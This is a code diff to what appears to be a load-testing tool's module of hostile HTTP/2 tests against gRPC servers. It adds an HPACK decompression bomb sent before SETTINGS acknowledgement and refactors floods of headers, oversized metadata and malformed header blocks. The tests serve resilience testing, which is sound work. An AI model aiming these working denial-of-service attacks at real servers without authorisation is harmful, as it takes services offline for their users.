@@ -6,7 +6,7 @@ from collections import Counter
 from collections.abc import Iterator
 
 from loadtest.hostile import hpack
-from loadtest.hostile.attacks import Aim, Attack, Outcomes
+from loadtest.hostile.attacks import Aim, Attack, Outcomes, all_of
 from loadtest.hostile.connection import connected, head
 from loadtest.hostile.frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, frame, grpc_message
 
@@ -17,21 +17,29 @@ NEWEST = 62  # the index of the newest entry of the table
 
 async def hpack_bomb(aim: Aim) -> Outcomes:
     """Refers 15,000 times to one header of 3 KB: 45 MB in a block of 15 KB."""
-    outcomes: Outcomes = Counter()
-    for _ in range(aim.times(ROUNDS)):
-        add = hpack.literal(b"bomb", b"a" * 3000, indexed=True)
-        outcomes[await _asked(aim, add + hpack.reference(NEWEST) * 15_000)] += 1
-    return outcomes
+    bomb = hpack.literal(b"bomb", b"a" * 3000, indexed=True) + hpack.reference(NEWEST) * 15_000
+    return await all_of(_asked(aim, bomb) for _ in range(aim.times(ROUNDS)))
 
 
 async def hpack_bomb_in_parts(aim: Aim) -> Outcomes:
-    """The same in 20 frames."""
+    """The same in 20 frames: a block of 300 KB."""
+    return await _bombs_in_parts(aim, acknowledges=True)
+
+
+async def unacknowledged_hpack_bomb(aim: Aim) -> Outcomes:
+    """The same before the server's SETTINGS are acknowledged: until then, gRPC accepts 16 MB of metadata."""
+    return await _bombs_in_parts(aim, acknowledges=False)
+
+
+async def _bombs_in_parts(aim: Aim, *, acknowledges: bool) -> Outcomes:
     outcomes: Outcomes = Counter()
     more = b"".join(frame(CONTINUATION, 0, 1, hpack.reference(NEWEST) * FRAME_BYTES) for _ in range(20))
     add = hpack.block(head(aim.service.main)) + hpack.literal(b"bomb", b"a" * 3000, indexed=True)
     for _ in range(aim.times(10)):
         async with connected(aim.target) as connection:
             await connection.greet()
+            if acknowledges:
+                await connection.acknowledge()
             await connection.send(frame(HEADERS, 0, 1, add) + more + frame(CONTINUATION, END_HEADERS, 1))
             outcomes[await connection.fate(1)] += 1
     return outcomes
@@ -39,10 +47,7 @@ async def hpack_bomb_in_parts(aim: Aim) -> Outcomes:
 
 async def many_headers(aim: Aim) -> Outcomes:
     """Sends thousands of the smallest headers."""
-    outcomes: Outcomes = Counter()
-    for _ in range(aim.times(ROUNDS)):
-        outcomes[await _asked(aim, hpack.literal(b"a", b"") * 3000)] += 1
-    return outcomes
+    return await all_of(_asked(aim, hpack.literal(b"a", b"") * 3000) for _ in range(aim.times(ROUNDS)))
 
 
 async def table_churn(aim: Aim) -> Outcomes:
@@ -56,20 +61,14 @@ async def table_churn(aim: Aim) -> Outcomes:
 
 async def large_metadata(aim: Aim) -> Outcomes:
     """Sends 64 KB of metadata, in one header and in many."""
-    outcomes: Outcomes = Counter()
-    for _ in range(aim.times(ROUNDS)):
-        outcomes[await _asked(aim, hpack.literal(b"large", b"a" * 65_536))] += 1
-        outcomes[await _asked(aim, b"".join(hpack.literal(b"n%d" % number, b"a" * 1000) for number in range(64)))] += 1
-    return outcomes
+    one = hpack.literal(b"large", b"a" * 65_536)
+    many = b"".join(hpack.literal(b"n%d" % number, b"a" * 1000) for number in range(64))
+    return await all_of(_asked(aim, block) for _ in range(aim.times(ROUNDS)) for block in (one, many))
 
 
 async def broken_blocks(aim: Aim) -> Outcomes:
     """Sends header blocks that break the rules of HPACK."""
-    outcomes: Outcomes = Counter()
-    for _ in range(aim.times(10)):
-        for name, data in broken():
-            outcomes[f"{name}: {await _asked(aim, data)}"] += 1
-    return outcomes
+    return await all_of(_named(aim, name, data) for _ in range(aim.times(5)) for name, data in broken())
 
 
 def broken() -> Iterator[tuple[str, bytes]]:
@@ -96,6 +95,10 @@ def broken() -> Iterator[tuple[str, bytes]]:
     yield "header of a connection", hpack.literal(b"connection", b"keep-alive")
 
 
+async def _named(aim: Aim, name: str, data: bytes) -> str:
+    return f"{name}: {await _asked(aim, data)}"
+
+
 async def _asked(aim: Aim, more: bytes) -> str:
     """Sends a whole request with `more` in its header block, and returns the status or what else came back."""
     encoded = hpack.block(head(aim.service.main)) + more
@@ -105,11 +108,20 @@ async def _asked(aim: Aim, more: bytes) -> str:
     body = frame(DATA, END_STREAM, 1, grpc_message(aim.service.unary[aim.service.main]))
     async with connected(aim.target) as connection:
         await connection.greet()
+        await connection.acknowledge()  # gRPC enforces the limit of metadata only then
         await connection.send(b"".join(frames) + body)
         return await connection.fate(1)
 
 
 ATTACKS: dict[str, Attack] = {
     attack.__name__: attack
-    for attack in (hpack_bomb, hpack_bomb_in_parts, many_headers, table_churn, large_metadata, broken_blocks)
+    for attack in (
+        hpack_bomb,
+        hpack_bomb_in_parts,
+        unacknowledged_hpack_bomb,
+        many_headers,
+        table_churn,
+        large_metadata,
+        broken_blocks,
+    )
 }
